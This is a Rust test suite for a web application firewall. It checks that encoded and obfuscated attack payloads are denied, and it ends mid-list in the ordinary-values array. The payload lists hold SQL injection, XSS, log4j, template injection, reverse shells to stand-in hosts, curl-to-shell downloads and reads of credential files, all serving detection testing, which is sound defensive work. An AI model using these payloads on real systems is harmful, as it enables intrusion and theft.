//! Evasion forms the engine must deny, written for this suite (not taken
//! from the dev corpus or a published payload list): for each class, the
//! spellings by which one attack dodges a literal match — encodings, case,
//! comments, quoting, globs, alternative syntax, indirect sinks. Each value
//! is sent to a balanced profile as a query parameter, a JSON string, a form
//! field and a cookie. Ordinary values that hold the same bytes must pass in
//! each of those places.
#![allow(clippy::expect_used)]

mod common;

use common::{cookie, post, query, urlencode};
use rampart_waf::{Profile, ProfileConfig, Verdict};

fn balanced() -> Profile {
    Profile::compile("evasions", &ProfileConfig::default()).expect("profile compiles")
}

/// The verdicts on `v` in each place a parameter travels.
fn verdicts(p: &Profile, v: &str) -> [(&'static str, Verdict); 4] {
    let json = format!("{{\"note\":{}}}", serde_json::Value::from(v));
    [
        ("query", query(p, v)),
        ("json", post(p, "application/json", &json)),
        (
            "form",
            post(
                p,
                "application/x-www-form-urlencoded",
                &format!("note={}", urlencode(v)),
            ),
        ),
        ("cookie", cookie(p, v)),
    ]
}

/// Every value of `values` is denied in every place; the message lists
/// each value and place that passed.
fn assert_denied(values: &[&str]) {
    let p = balanced();
    let passed: Vec<(&str, &str)> = values
        .iter()
        .flat_map(|v| verdicts(&p, v).map(|(place, verdict)| (*v, place, verdict)))
        .filter(|(_, _, verdict)| *verdict == Verdict::Allow)
        .map(|(v, place, _)| (v, place))
        .collect();
    assert!(passed.is_empty(), "allowed: {passed:#?}");
}

/// SQL injection: comment and case games, dialect operators, blind and error-based forms, subqueries.
const SQLI: &[&str] = &[
    // empty tags that split keywords, for a filter that strips markup
    "1 un<>ion sel<>ect us<>er, pa<>ss fr<>om users",
    // keywords split by invisible format characters; MySQL's DISTINCTROW
    "1 un\u{200b}ion all sel\u{200d}ect null,null--",
    r#"1' union distinctrow select 1,2"#,
    r#"0x77616974666f722064656c61792027303a303a3527"#,
    r#"1;DECLARE @c VARCHAR(64);SET @c=0x73656c65637420404076657273696f6e;EXEC(@c)"#,
    r#"0x730065006c00650063007400200031002c0032002c003300"#,
    r#"9 OR CASE WHEN 3=3 THEN 9 ELSE 1/0 END"#,
    r#"x',(CASE WHEN 12>11 THEN 'a' ELSE 'b' END))-- -"#,
    r#"'||(case/**/when/**/ascii('a')=97/**/then/**/'y'/**/end)||'"#,
    r#"5 AND IIF(4=4,1,1/0)"#,
    r#"1,IF(8=8,sleep(0),0)"#,
    r#"MScgdW5pb24gc2VsZWN0IHBhc3N3b3JkIGZyb20gdXNlcnMtLQ=="#,
    r#"1;COPY (SELECT '') TO PROGRAM 'id'--"#,
    r#"1';exec('sel'+'ect 1')--"#,
    r#"1' AND 1=UTL_HTTP.REQUEST('http://x.example/')--"#,
    r#"1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"#,
    r#"1';ATTACH DATABASE '/var/www/x.php' AS x;--"#,
    r#"1' AND load_extension('x')--"#,
    r#"$$; DROP TABLE users; $$"#,
    r#"1' AND 1=(SELECT 1 FROM pg_sleep(5))--"#,
    r#"1 AND 1=1::int"#,
    r#"1' UNION SELECT NULL FROM DUAL--"#,
    r#"1' || (SELECT chr(65)||chr(66)) ||'"#,
    r#"1' and (select count(*) from all_users)>0--"#,
    r#"1' WAITFOR DELAY '0:0:5'--"#,
    r#"1)) OR ((1=1"#,
    r#"admin' AND '1'='1' /*"#,
    r#"1' AND MID(VERSION(),1,1)='5'--"#,
    r#"1' PROCEDURE ANALYSE()--"#,
    r#"1 UNION/*&test=1*/SELECT/*&pwn=2*/1,2--"#,
    r#"1%23%0aUNION%23%0aSELECT%201,2"#,
    r#"1 /*!12345UNION*/ /*!12345SELECT*/ 1--"#,
    r#"SELECT/**/password/**/FROM/**/users"#,
    r#"1';exec master..xp_cmdshell 'ping 10.0.0.1'--"#,
    r#"1' AND 1=(SELECT TOP 1 name FROM sysobjects)--"#,
    r#"';shutdown--"#,
    r#"1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"#,
    r#"1' and json_keys((select convert((select schema_name from information_schema.schemata) using utf8)))--"#,
    r#"1' and row(1,1)>(select count(*),concat(version(),0x3a,floor(rand(0)*2))x from information_schema.tables group by x)--"#,
    r#"-1' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3--"#,
    r#"1' INTO OUTFILE '/var/www/shell.php'--"#,
    r#"1 and benchmark(5000000,md5(1))"#,
    r#"1' and (select 1 from dual where 1=1)--"#,
    r#"1' ORDER BY 1,2,3,4,5,6,7,8,9,10--"#,
    r#"1) AND 1=1 AND (1=1"#,
    r#"' HAVING 1=1--"#,
    r#"' GROUP BY users.id HAVING 1=1--"#,
    r#"1'||(select extractvalue(xmltype('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://x.example/">%x;]>'),'/l') from dual)||'"#,
    r#"1 union%a0select 1,2"#,
    r#"1'%a0or%a0'1'='1"#,
    r#"1'/**/OR/**/1=1-- -"#,
    r#"1' oR 'a'='a"#,
    r#"1' || '1'='1"#,
    r#"1' and 1=1#"#,
    r#"1'/*!50000union*/ /*!50000select*/ 1,2--"#,
    r#"-1 union select 1,2,3"#,
    r#"1e0union select 1,2"#,
    r#"1' and ascii(substring(user(),1,1))>64--"#,
    r#"admin'--"#,
    r#"' or ''='"#,
    r#"1;waitfor delay '0:0:5'--"#,
    r#"1 and sleep(5)"#,
    r#"1' and extractvalue(1,concat(0x7e,version()))--"#,
    r#"1'||pg_sleep(5)--"#,
    r#"1'%0aor%0a1=1--"#,
    r#"1 AND 1=1"#,
    r#"1' AND '1'='1"#,
    r#"x' AND 1=(SELECT COUNT(*) FROM tabname); --"#,
    r#"1 OR 1=1"#,
    r#"1) or (1=1"#,
    r#"1' UNION ALL SELECT NULL,NULL,NULL-- -"#,
    r#"1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -"#,
    r#"' AND 1=CONVERT(int,(SELECT @@version))--"#,
    r#"1' ORDER BY 3--+"#,
    r#"1' GROUP BY 1,2,3--"#,
    r#"1 AND (SELECT substr(password,1,1) FROM users LIMIT 1)='a'"#,
    r#"'; DROP TABLE users; --"#,
    r#"1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))--"#,
    r#"' or true--"#,
    r#"') or ('x')=('x"#,
    r#"1' and '1'like'1"#,
    r#"1'and(select*from(select(sleep(5)))a)--"#,
    r#"1 && 1=1"#,
    r#"1 || 1=1"#,
    r#"1' xor 1=1--"#,
    r#"-1' union select @@version,user()#"#,
    r#"admin' #"#,
    r#"1' and updatexml(1,concat(0x7e,(select user())),1)--"#,
    r#"1;select pg_sleep(5)"#,
    r#"1 and 1 in (select 1)"#,
    r#"1' and 'a' between 'a' and 'z'--"#,
    r#"1 AnD 1=1"#,
    r#"1' /*!OR*/ '1'='1"#,
    r#"1'	or	1=1--"#,
    r#"1' or 1=1 limit 1-- -"#,
    r#"' UNION SELECT username, password FROM users--"#,
    r#"1' and substring(@@version,1,1)=5--"#,
    // sqlmap-style tampers: ASP's dropped `%`, `#` comments cut by a line
    // break, SQL Server's control-character blanks
    "1 %A%N%D 1=1 %U%N%I%O%N %A%L%L %S%E%L%E%C%T %N%U%L%L,%C%O%N%C%A%T(0x71,%u%s%e%r(),0x71)-- -",
    "1' %O%R '1'='1",
    "1)#abc\nAND#abc\n8372=8372#abc\nAND#abc\n(4921=4921",
    "1'#zzz\nOR#zzz\n'1'='1",
    "-1\u{1f}UNION\u{f}SELECT\u{f}username,password\u{1f}FROM\u{f}users",
    "1;WAITFOR\u{f}DELAY\u{f}'0:0:5'--",
    // arithmetic compared with a number after the literal
    "-1 OR 2+1-1=2",
];

/// Cross-site scripting: handlers, URI schemes behind entities, broken tags, sinks named indirectly.
const XSS: &[&str] = &[
    // octal string escapes, numeric references padded with zeros
    r#"x='\160\162\157\155\160\164\50\67\51'"#,
    r#"prompt&#000000040;1&#000000041;"#,
    // a base64 token of 128 bytes and more, all alphanumeric (a handler
    // that sends the cookie away, with a page's parameters after it)
    r#"PGlucHV0IGF1dG9mb2N1cyBvbmZvY3VzPSdsb2NhdGlvbj1gLy8xMjcuMC4wLjEvYz9gLmNvbmNhdChkb2N1bWVudC5jb29raWUpJz4mcGFnZT0yJnNvcnQ9bmFtZSZx"#,
    // a sink called optionally, or through its own `call` / `apply`
    r#"prompt?.(document?.domain)"#,
    r#"confirm.call(this,7)"#,
    r#"'-alert.apply(null,[1])-'"#,
    // a payload inside a block comment that only decoding shows
    r#"%2F%2A%20%3Cvideo%20src%3Dx%20onerror%3Dprompt(2)%3E%20%2A%2F"#,
    r#"<b style="x:e\78 pression(alert(1))">"#,
    r#"<i style="background:u\72 l(javascript:alert(1))">"#,
    r#"<p style="w:expr/* */ession(alert(1))">"#,
    r#"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="#,
    // base64 of UTF-8 text with a script after it, once as sent and once
    // with its `+` made blanks by a form decoder
    r#"PHA+w5xuw69jw7Zkw6kg4oCYcXVvdGVk4oCZPC9wPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD4="#,
    r#"PHA w5xuw69jw7Zkw6kg4oCYcXVvdGVk4oCZPC9wPjxzY3JpcHQ YWxlcnQoMSk8L3NjcmlwdD4="#,
    r#"<svg><script href=data:,alert(1) />"#,
    // short tags that split words, for a filter that strips markup
    r#"x" o<y>nmouseover=prompt<y>(9) ""#,
    r#"" autofocus onfocus=alert(1) x=""#,
    r#"' onmouseover='alert(1)"#,
    r#"<svg/onload=self[`alert`](1)>"#,
    r#"<img src=x onerror=window.onerror=alert;throw+1>"#,
    r#"<iframe/src="data:text/html,<svg onload=alert(1)>">"#,
    r#"<a href="javas&Tab;cript:alert(1)">x</a>"#,
    r#"<x contenteditable onblur=alert(1)>lose focus!"#,
    r#"<sCrIpT>alert(1)</ScRiPt>"#,
    r#"%3Cscript%3Ealert(1)%3C%2Fscript%3E"#,
    r#"&lt;script&gt;alert(1)&lt;/script&gt;"#,
    r#"\x3cscript\x3ealert(1)\x3c/script\x3e"#,
    r#"\u003cscript\u003ealert(1)\u003c/script\u003e"#,
    r#"<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>"#,
    r#"<img src=1 href=1 onerror="javascript:alert(1)"></img>"#,
    r#"<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>"#,
    r#"<math><a xlink:href="javascript:alert(1)">x</a></math>"#,
    r#"<embed src="javascript:alert(1)">"#,
    r#"<video><source onerror="alert(1)">"#,
    r#"<audio src=x onerror=alert(1)>"#,
    r#""onmouseover="alert(1)"#,
    r#"' autofocus onfocus='alert(1)"#,
    r#"javascript://%0aalert(1)"#,
    r#"data:text/html,<script>alert(1)</script>"#,
    r#"vbscript:msgbox(1)"#,
    r#"<a href=" &#14;  javascript:alert(1)">x</a>"#,
    r#"<svg><set attributeName=href to=javascript:alert(1)>"#,
    r#"<iframe src=//x.example/evil>"#,
    r#"<link rel=stylesheet href=//x.example/x.css>"#,
    r#"<base href="javascript:/a/-alert(1)///////">"#,
    r#"<svg/onload=alert(1)>"#,
    r#"<img src=x onerror=alert`1`>"#,
    r#"<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">"#,
    r#"<a href="javascript&colon;alert(1)">x</a>"#,
    r#"<a href="jav&#x09;ascript:alert(1)">x</a>"#,
    r#"<details open ontoggle=alert(1)>"#,
    r#""><script>alert(String.fromCharCode(88,83,83))</script>"#,
    r#"<x onpointerenter=alert(1)>"#,
    r#"'-alert(1)-'"#,
    r#"\";alert(1);//"#,
    r#"<scr<script>ipt>alert(1)</scr</script>ipt>"#,
    r#"{{constructor.constructor('alert(1)')()}}"#,
    r#"<body onload=alert(1)>"#,
    r#"<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">"#,
    r#"<svg><animate onbegin=alert(1) attributeName=x>"#,
    r#"<input autofocus onfocus=alert(1)>"#,
    r#"javascript:alert(document.domain)"#,
    r#"<img src=x oNeRrOr=confirm(1)>"#,
    r#"<svg><script>alert&#40;1&#41;</script>"#,
    r#"<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>"#,
    r#"<img src=x:alert(alt) onerror=eval(src) alt=0>"#,
    r#"<svg onload=alert&lpar;1&rpar;>"#,
    r#"<iframe src="javascript:alert(1)">"#,
    r#"<form><button formaction=javascript:alert(1)>x"#,
    r#"<marquee onstart=alert(1)>"#,
    r#"</script><script>alert(1)</script>"#,
    r#"<style>@import'http://x.example/x.css';</style>"#,
    r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
    r#"';alert(1)//"#,
    r#"\u0027;alert(1)//"#,
    r#"top["al"+"ert"](1)"#,
    r#"window['ale'+'rt'](document.cookie)"#,
    r#"setTimeout('ale'+'rt(1)')"#,
    r#"eval(atob('YWxlcnQoMSk='))"#,
    r#"Function('ale'+'rt(1)')()"#,
    r#"[1].map(alert)"#,
    r#"onerror=alert;throw 1"#,
    r#"import('//x.example/a.js')"#,
];

/// Path traversal and local files: encodings of the dot and the slash, Windows paths, well-known files.
const LFI: &[&str] = &[
    // a UNC path to an administrative share, a user's registry hive
    r#"\\127.0.0.1\c$\windows\win.ini"#,
    r#"C:\Users\bob\NTUSER.DAT"#,
    // one step whose dots or separator only decoding reveals
    r#"/%2e%2e%2f"#,
    r#"..%252fconfig"#,
    r#"/%c0%ae%c0%ae%c0%af"#,
    // an invalid C0 lead before an ASCII byte, dropped by a decoder that
    // skips invalid bytes
    r#"%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fetc%c0%2fpasswd"#,
    // best-fit slashes
    r#"..%u2215..%u2215..%u2215windows%u2215win.ini"#,
    // any directory under /var and /usr, and BSD's and X11's secrets
    r#"/var/apache/logs/error_log"#,
    r#"/usr/etc/pure-ftpd.conf"#,
    r#"/etc/master.passwd"#,
    r#"~/.Xauthority"#,
    r#"/usr/local/nginx/conf/nginx.conf"#,
    r#"/var/www/html/.htaccess"#,
    r#"e:\xampp\php\php.ini"#,
    r#"..\..\..\..\..\..\users\bob\.netrc"#,
    r#"~/.zsh_history"#,
    r#"..%u2216..%u2216etc%u2216passwd"#,
    r#"%uff0e%uff0e/%uff0e%uff0e/etc/passwd"#,
    r#"..%e0%80%ae/etc/passwd"#,
    r#"/..%00/..%00/etc/passwd"#,
    r#"....//....//windows/win.ini"#,
    r#"....//....//....//etc/passwd"#,
    r#"..%252f..%252f..%252fetc%252fpasswd"#,
    r#"%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"#,
    r#"..\..\..\windows\win.ini"#,
    r#"/etc/passwd%00.jpg"#,
    r#"php://filter/convert.base64-encode/resource=index.php"#,
    r#"file:///etc/passwd"#,
    r#"/proc/self/environ"#,
    r#"..%5c..%5c..%5cboot.ini"#,
    r#"/var/log/apache2/access.log"#,
    r#"~/.ssh/id_rsa"#,
    r#"%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"#,
    r#"..;/..;/..;/etc/passwd"#,
    r#"..%2f..%2f..%2fetc/passwd"#,
    r#"%252e%252e%252fetc%252fpasswd"#,
    r#"..%c0%af..%c0%afetc/passwd"#,
    r#"..%ef%bc%8f..%ef%bc%8fetc/passwd"#,
    r#".%2e/.%2e/etc/passwd"#,
    r#"/etc//passwd"#,
    r#"/etc/./passwd"#,
    r#"....\/....\/etc/passwd"#,
    r#"..///////..////etc/passwd"#,
    r#"C:/Windows/System32/drivers/etc/hosts"#,
    r#"\\?\C:\windows\win.ini"#,
    r#"../WEB-INF/web.xml"#,
    r#"../.git/config"#,
    r#"../../.env"#,
    r#"/proc/1/environ"#,
];

/// Server-side request forgery: every spelling of an internal or metadata address, internal schemes.
const SSRF: &[&str] = &[
    r#"http://10.1.2.3%00.example.com/"#,
    r#"http://localtest.me/"#,
    r#"http://127.0.0.1.sslip.io/"#,
    r#"http://[::]:80/"#,
    r#"http://[0000::1]/"#,
    r#"http://0x7f000001/"#,
    r#"http://2130706433/"#,
    r#"http://127.0.0.1:80@x.example/"#,
    r#"http://x.example\@127.0.0.1/"#,
    r#"http://metadata.azure.com/metadata/instance"#,
    r#"http://169.254.169.254%2F@x.example/"#,
    r#"http://169.254.169.254/latest/meta-data/"#,
    r#"http://[::ffff:169.254.169.254]/"#,
    r#"http://2852039166/latest/meta-data/"#,
    r#"http://0xA9FEA9FE/"#,
    r#"http://0251.0376.0251.0376/"#,
    r#"http://metadata.google.internal/computeMetadata/v1/"#,
    r#"http://127.1/admin"#,
    r#"gopher://127.0.0.1:6379/_SET%20x"#,
    r#"dict://127.0.0.1:11211/stats"#,
    r#"http://[fd00:ec2::254]/latest/meta-data/"#,
    r#"http://100.100.100.200/latest/meta-data/"#,
    r#"http://0/"#,
    r#"http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/"#,
    r#"http://169.254.169.254.nip.io/"#,
    r#"http://127.0.0.1.nip.io/"#,
    r#"http://localhost:6379/"#,
    r#"http://[::1]:22/"#,
    r#"http://[0:0:0:0:0:ffff:127.0.0.1]/"#,
    r#"http://0x7f.0.0.1/"#,
    r#"http://017700000001/"#,
    r#"http://127.000.000.1/"#,
    r#"http://evil.example@127.0.0.1/"#,
    r#"http://127.0.0.1#@evil.example/"#,
    r#"http:/\127.0.0.1/"#,
    r#"//169.254.169.254/latest/meta-data/"#,
    r#"http://instance-data/latest/meta-data/"#,
    r#"ldap://127.0.0.1/"#,
    r#"jar:http://127.0.0.1!/"#,
    r#"netdoc:///etc/passwd"#,
    r#"http://0177.1/"#,
    r#"http://metadata/computeMetadata/v1/"#,
    r#"http://169.254.170.2/v2/credentials"#,
    r#"http://10.0.0.1/admin"#,
];

/// Java: log4j lookups, nested and encoded; deserialisation (with Ruby's, Python's
/// and .NET's); OGNL and SpEL; class-loader parameters.
const JAVA: &[&str] = &[
    // YAML tags that make a loader construct a class
    r#"!!javax.script.ScriptEngineManager [x]"#,
    r#"${jndi:${lower:r}mi://x/a}"#,
    r#"${jndi:ldap://127.0.0.1#.x.example:1389/a}"#,
    r#"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}"#,
    r#"${T(java.lang.System).getenv()}"#,
    r#"--- !ruby/object:Gem::Installer"#,
    r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}"#,
    r#"AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0uV2luZG93cy5Gb3Jtcw=="#,
    r#"!!python/object/apply:os.system ["id"]"#,
    r#"${jndi:ldap://x.example/a}"#,
    r#"${${lower:j}ndi:ldap://x/a}"#,
    r#"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"#,
    r#"${j${k8s:k5:-ND}i:ldap://x/a}"#,
    r#"${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}"#,
    r#"%24%7Bjndi:ldap://x/a%7D"#,
    r#"${jndi:dns://x.example/a}"#,
    r#"${${upper:j}ndi:ldap://x/a}"#,
    r#"${jnd${upper:i}:ldap://x/a}"#,
    r#"${${date:'j'}${date:'n'}di:ldap://x/a}"#,
    r#"${j${::-n}di:ldap://x/a}"#,
    r#"${${base64:JHtqbmRpOmxkYXA6Ly94L2F9}}"#,
    r#"${${sys:foo:-j}ndi:ldap://x/a}"#,
    r#"%24%7B%6A%6E%64%69:ldap://x/a%7D"#,
    r#"$%7Bjndi:ldap://x/a%7D"#,
    r#"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="#,
    r#"<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array></object></java>"#,
    r#"#{T(java.lang.Runtime).getRuntime().exec('id')}"#,
    r#"%{(#_='multipart/form-data').(#cmd='id')}"#,
    r#"${@java.lang.Runtime@getRuntime().exec('id')}"#,
    r#"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"#,
];

/// Command injection: separators, quoting and expansion tricks, globs, encodings, Windows.
const CMDI: &[&str] = &[
    // fullwidth shell syntax, for an application that folds Unicode (NFKC)
    // before it runs a command
    "\u{FF04}\u{FF08}id\u{FF09}",
    "\u{FF40}id\u{FF40}",
    // short payloads as one base64 token (`${`id`}`, `$(cmd)`: 8-11 characters)
    r#"JHtgaWRgfQ=="#,
    r#"JChjbWQp"#,
    r#"&n^e^t u^s^e^r"#,
    r#"|^type c:\windows\win.ini"#,
    r#"x && p^ing -n 2 127.0.0.1"#,
    r#";system('id')"#,
    r#"|| ping -c 10 127.0.0.1 ||"#,
    r#"`sleep 5`"#,
    r#"$(sleep 5)"#,
    r#";sleep${IFS}5"#,
    r#"%0Asleep%205"#,
    r#"& timeout /t 5"#,
    r#"| ping -n 5 127.0.0.1"#,
    r#";ls -la"#,
    r#"$(id)"#,
    r#"`id`"#,
    r#"|| id"#,
    r#"%0aid"#,
    r#";cat</etc/passwd"#,
    r#";c\a\t /e\t\c/pa\s\swd"#,
    r#";$'\x63\x61\x74' /etc/passwd"#,
    r#";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"#,
    r#";"$(printf 'c\x61t')" /etc/passwd"#,
    r#";cat /e??/p*d"#,
    r#";rev<<<'dwssap/cte/ tac'|sh"#,
    r#"& ping -n 1 10.0.0.1"#,
    r#"| type C:\windows\win.ini"#,
    r#";curl http://10.0.0.1/x|sh"#,
    r#"a%0a%0dwget http://10.0.0.1/x"#,
    r#";sleep 5"#,
    r#"|nslookup x.example"#,
    r#";${PATH:0:1}bin${PATH:0:1}sh"#,
    r#";tr '[A-Z]' '[a-z]'<<<'CAT /ETC/PASSWD'|sh"#,
    r#";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"#,
    r#";python -c 'import socket,os,pty;s=socket.socket()'"#,
    r#";nc -e /bin/sh 10.0.0.1 4444"#,
    r#"| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"#,
    r#"& certutil -urlcache -f http://x.example/a.exe a.exe"#,
    r#";awk 'BEGIN{system("id")}'"#,
    r#";find / -name x -exec id \;"#,
    r#"$(</etc/passwd)"#,
    r#";cat${IFS%??}/etc/passwd"#,
    r#";ca''t /etc/passwd"#,
    r#";"c"a"t" /etc/passwd"#,
    r#";c$()at /etc/passwd"#,
    r#";c${x}at /etc/passwd"#,
    r#";w'h'o'am'i"#,
    r#"a|w\ho\am\i"#,
    r#";/???/?s -l"#,
    r#";echo${IFS}id|sh"#,
    r#";printf '\151\144'|sh"#,
    r#";X=$'\x69\x64';$X"#,
    // an unset variable glued into words, a redirection glued to the
    // command, a registry hive, socket statistics
    ";cat$u /etc$u/passwd$u",
    ";c${x}at /e${x}tc/passwd",
    ";id>/tmp/x",
    "| reg query HKLM\\Software\\Microsoft",
    ";ss -tlnp",
];

/// PHP: tags, wrappers, object injection, code-running calls.
const PHP: &[&str] = &[
    // a filter chain's links, sent on their own
    r#"convert.iconv.UTF8.CSISO2022KR"#,
    r#"php://filter/string.rot13/resource=index.php"#,
    r#"<?php system($_GET['c']); ?>"#,
    r#"<?=`$_GET[0]`?>"#,
    r#"php://input"#,
    r#"data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+"#,
    r#"expect://id"#,
    r#"O:8:"stdClass":0:{}"#,
    r#"<?php eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));?>"#,
    r#"phar://./uploads/x.jpg/x"#,
    r#"zip://./uploads/x.zip#shell.php"#,
    r#"assert($_POST[x])"#,
    r#"passthru('id')"#,
    r#"shell_exec('id')"#,
    r#"preg_replace('/.*/e','system("id")','x')"#,
    r#"${@phpinfo()}"#,
    r#"{${system('id')}}"#,
];

/// NoSQL operators, shellshock, CRLF injection, XXE, template injection, prototype pollution.
const OTHER: &[&str] = &[
    // a form-encoded payload in a multipart part or a JSON string, whose `+`
    // no parser made blanks
    "%0AMAIL+FROM:+<a@b.example>%0ARCPT+TO:+<c@d.example>",
    "%27,+$where:+%27sleep(1000)%27",
    r#"!!python/object/apply:os.system ["id"]"#,
    // a character whose low byte is CR or LF, truncated into a header line
    r#"%E5%98%8A%E5%98%8DSet-Cookie:%20session=fixed"#,
    // UTF-7 XML hides its markup from byte checks
    r#"<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AFs-+ADwAIQ-ENTITY x SYSTEM +ACI-file:///etc/hostname+ACI-+AD4-+AF0-+AD4-"#,
    // template context probes as the whole value
    r#"{{ settings.SECRET_KEY }}"#,
    r#"${"freemarker.template.utility.ObjectConstructor"?new()}"#,
    r#"{ $where: 'sleep(100)' }"#,
    r#"x', $ne: 'y"#,
    r#"';db.accounts.remove({});var a='"#,
    r#"(|(uid=*)(cn=admin"#,
    r#"bob*)((|mail=*)"#,
    r#"*{7*7}"#,
    r#"@(1+2)"#,
    r#"{{7*'7'}}"#,
    r#"{% import os %}{{ os.system('id') }}"#,
    r#"<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}"#,
    r#"<!--#include virtual="/etc/passwd"-->"#,
    r#"<!--#include file="../../web.config"-->"#,
    r#"<!--#echo var="DOCUMENT_ROOT"-->"#,
    r#"<!--#printenv -->"#,
    r#"<!--#config errmsg="x"-->"#,
    r#"' or count(/child::node())=1 or '1'='1"#,
    r#"' and count(/*)=1 and '1'='1"#,
    r#"1 or name()='x"#,
    r#"x%0ABcc:victim@example.org"#,
    r#"{{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}"#,
    r#"<%= system('id') %>"#,
    r#"#set($x='')$x.class.forName('java.lang.Runtime')"#,
    r#"${{<%[%'"}}%\."#,
    r#"@{(new java.lang.ProcessBuilder('id')).start()}"#,
    r#"{php}echo `id`;{/php}"#,
    r#"{system('id')}"#,
    r#"*{T(java.lang.Runtime).getRuntime().exec('id')}"#,
    r#"*)(uid=*))(|(uid=*"#,
    r#"admin)(&)"#,
    r#"*)(|(objectclass=*)"#,
    r#"x)(|(password=*))"#,
    r#"'] | //user/*[contains(*,'"#,
    "x\nBcc: victim@example.org",
    "a@example.org\r\nSubject: you won",
    r#"{"$where": "sleep(1000)"}"#,
    r#"{"username": {"$ne": null}}"#,
    r#"[$ne]=1"#,
    r#"() { :;}; /bin/bash -c 'id'"#,
    r#"%0d%0aSet-Cookie: x=1"#,
    r#"%0d%0aLocation: http://x"#,
    r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>"#,
    r#"{{7*7}}"#,
    r#"${7*7}"#,
    r#"<%= 7*7 %>"#,
    r#"#{7*7}"#,
    r#"{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"#,
    r#"{{''.__class__.__mro__[1].__subclasses__()}}"#,
    r#"${T(java.lang.Runtime).getRuntime().exec('id')}"#,
    r#"__proto__[isAdmin]=true"#,
    r#"constructor[prototype][isAdmin]=true"#,
    // NoSQL filters parsed from a parameter, JavaScript out of a `$where`
    // string, template engine objects, XStream, .NET process creation
    r#"{"username":{"$gt":""},"password":{"$gt":""}}"#,
    r#"{"$or":[{"a":1},{"b":1}]}"#,
    "';return true;var x='",
    "'; while(true){}; var x='",
    "{{config.items()}}",
    r#"{{_self.env.registerUndefinedFilterCallback("exec")}}"#,
    // a Twig filter given a PHP function's name as its callable
    r#"{{['id']|filter('system')}}"#,
    r#"{{ ['ls -la'] | map ( "passthru" ) }}"#,
    "<java.util.PriorityQueue serialization='custom'><unserializable-parents/></java.util.PriorityQueue>",
    r#"@(System.Diagnostics.Process.Start("cmd.exe","/c id"))"#,
];

/// Everyday values with the quotes, brackets, globs, slashes and keywords
/// the forms above use.
const ORDINARY: &[&str] = &[
    // a heading that starts with a language's name, `exec` as executive,
    // a Czech word before a colon, a page's placeholder
    "JavaScript: a first course for designers",
    "exec summary",
    "Čeština: úvod",
    "Dear {{ first_name }}, your order has shipped",
    "the alarm? (it was a drill)",
    "{{ products|filter(p => p.in_stock)|sort }}",
    "See ../images/logo.png for the new logo",
    // encoded text that ends in a raw `/...`: the step was not hidden by encoding
    "Chapter%201%3A%20Intro (draft)/...",
    "À la carte menu, 12.50",
    "Pin redis:7-alpine and postgres:16 in compose.yaml",
    "Hi all,\nCat food is on offer again\nPing me if you want some",
    "Via Appia 12\n00100 Roma (RM)",
    r#"{"website": ["http://shop.example.com/"], "mail": "anna@example.org"}"#,
    r#"<span style="content: '\2014'; color: #333">x</span>"#,
    "0x742d35cc6634c0532925a3b844bc454e4438f44e",
    "the exec @home team meets at 5",
    "0x48656c6c6f2c20776f726c6421",
    "Apply the CASE discount when total > 50, then free shipping",
    "If(price>100, free delivery, standard)",
    "Use ^ for powers: 2^8 = 256",
    "My notes live in /home/me/notes.txt",
    "{ name: $name, age: 3 }",
    "options (a)(b)(c), pick one",
    "O'Reilly & Sons",
    "Rock 'n' roll; live at 8",
    "who? me",
    "2*3 = 6 | 4*5 = 20",
    "see [1] and [2]",
    "What's new in v2.0?",
    "../ is the parent directory",
    "a.b@example.org",
    "https://example.com/search?q=cats&page=2",
    "Order #1234 - 2 items (select size at checkout)",
    "if (a < b) { return a; }",
    "The function (f) maps x to y",
    "50% off | today only",
    "Tom & Jerry; Itchy & Scratchy",
    "price > 100 and < 200",
    "I/O error on /dev/sda1",
    "<3 love it",
    "C:\\Users\\me\\Documents\\report.docx",
    "C:\\fakepath\\holiday photo.jpg",
    "Congratulations!\nTo: Sarah\nFrom: Dad",
    "Dear all,\nFrom: the office\nSubject: party",
    "Price (USD)(VAT=20%)",
    // generated passwords (bench/waf_passwords.py) this suite once refused
    "*J*@w1FWohLwdcl#",
    "hIrnPu@LFG9g#_ufVw*!",
    "70*v3sAr^W@@MVn$",
